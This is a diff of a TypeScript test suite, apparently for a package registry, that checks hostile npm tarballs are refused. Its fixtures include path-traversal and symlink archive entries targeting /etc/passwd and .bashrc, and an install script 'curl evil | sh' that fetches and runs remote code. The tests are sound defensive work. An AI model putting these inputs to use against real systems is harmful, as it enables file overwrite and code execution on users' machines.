@@ -1,4 +1,5 @@
-import { buildTar, startTestServer, storedBlobKeys, type TarInput, type TestServer, testModes, zeroTarGz } from '@stowage/testkit';
+import { buildTar, startTestServer, storedBlobKeys, type TarInput, testModes, type TestServer, zeroTarGz } from '@stowage/testkit';
+
 import { npmFormat } from '../src';
 import { publishBody } from './npm-fixtures';
 
@@ -39,23 +40,54 @@ describe.each(testModes())('npm publish of hostile tarballs (%s)', (mode) => {
   afterAll(() => s?.close());
 
   it.each<[string, TarInput, string]>([
-    ['a ".." path', { name: 'package/../../x', data: 'x' }, 'the archive entry "package/../../x" points outside the package directory (a ".." segment)'],
-    ['an absolute path', { name: '/etc/x', data: 'x' }, 'the archive entry "/etc/x" points outside the package directory (an absolute path)'],
+    [
+      'a ".." path',
+      { name: 'package/../../x', data: 'x' },
+      'the archive entry "package/../../x" points outside the package directory (a ".." segment)',
+    ],
+    [
+      'an absolute path',
+      { name: '/etc/x', data: 'x' },
+      'the archive entry "/etc/x" points outside the package directory (an absolute path)',
+    ],
     ['a drive path', { name: 'C:/x', data: 'x' }, 'the archive entry "C:/x" points outside the package directory (a drive path)'],
     ['a backslash drive path', { name: 'C:\\x', data: 'x' }, 'the archive entry "C:\\\\x" has a backslash in its name'],
-    ['a backslash path', { name: 'package\\..\\..\\x', data: 'x' }, 'the archive entry "package\\\\..\\\\..\\\\x" has a backslash in its name'],
+    [
+      'a backslash path',
+      { name: 'package\\..\\..\\x', data: 'x' },
+      'the archive entry "package\\\\..\\\\..\\\\x" has a backslash in its name',
+    ],
     ['a symlink', { name: 'package/link', type: '2', link: '/etc/passwd' }, 'the archive entry "package/link" is a symbolic link'],
     ['a hard link', { name: 'package/link', type: '1', link: 'package/package.json' }, 'the archive entry "package/link" is a hard link'],
     ['a FIFO', { name: 'package/fifo', type: '6' }, 'the archive entry "package/fifo" is a device, FIFO or other special file'],
-    ['a ".." path in a pax header', { name: 'package/ok.js', paxPath: 'package/../../.bashrc', data: 'x' }, 'the archive entry "package/../../.bashrc" points outside the package directory (a ".." segment)'],
+    [
+      'a ".." path in a pax header',
+      { name: 'package/ok.js', paxPath: 'package/../../.bashrc', data: 'x' },
+      'the archive entry "package/../../.bashrc" points outside the package directory (a ".." segment)',
+    ],
   ])('refuses a tarball with %s, naming the entry, and stores nothing', async (_, entry, problem) => {
-    await refused('evil-lib', buildTar([manifest('evil-lib'), { name: 'package/index.js', data: 'ok' }, entry]), `Invalid tarball: ${problem}.`);
+    await refused(
+      'evil-lib',
+      buildTar([manifest('evil-lib'), { name: 'package/index.js', data: 'ok' }, entry]),
+      `Invalid tarball: ${problem}.`,
+    );
   });
 
   it('refuses a second package.json npm would write over the first', async () => {
-    const second = { name: 'other/package.json', data: JSON.stringify({ name: 'evil-lib', version: '1.0.0', scripts: { install: 'curl evil | sh' } }) };
-    await refused('evil-lib', buildTar([manifest('evil-lib'), second]), 'Invalid tarball: the tarball holds more than one package.json (package/package.json, other/package.json).');
-    await refused('evil-lib', buildTar([manifest('evil-lib'), { ...manifest('evil-lib'), data: '{}' }]), 'Invalid tarball: the archive holds "package/package.json" more than once.');
+    const second = {
+      name: 'other/package.json',
+      data: JSON.stringify({ name: 'evil-lib', version: '1.0.0', scripts: { install: 'curl evil | sh' } }),
+    };
+    await refused(
+      'evil-lib',
+      buildTar([manifest('evil-lib'), second]),
+      'Invalid tarball: the tarball holds more than one package.json (package/package.json, other/package.json).',
+    );
+    await refused(
+      'evil-lib',
+      buildTar([manifest('evil-lib'), { ...manifest('evil-lib'), data: '{}' }]),
+      'Invalid tarball: the archive holds "package/package.json" more than once.',
+    );
   });
 
   it('stops, quickly, a tarball that expands to 4 GiB before its package.json', async () => {
@@ -81,7 +113,12 @@ describe.each(testModes())('npm publish of hostile tarballs (%s)', (mode) => {
   });
 
   it('still publishes an ordinary tarball, directories and all', async () => {
-    const tgz = buildTar([{ name: 'package/', type: '5' }, manifest('good-lib'), { name: 'package/lib/', type: '5' }, { name: 'package/lib/index.js', data: 'ok' }]);
+    const tgz = buildTar([
+      { name: 'package/', type: '5' },
+      manifest('good-lib'),
+      { name: 'package/lib/', type: '5' },
+      { name: 'package/lib/index.js', data: 'ok' },
+    ]);
     expect((await publish('good-lib', tgz)).status).toBe(200);
   });
 
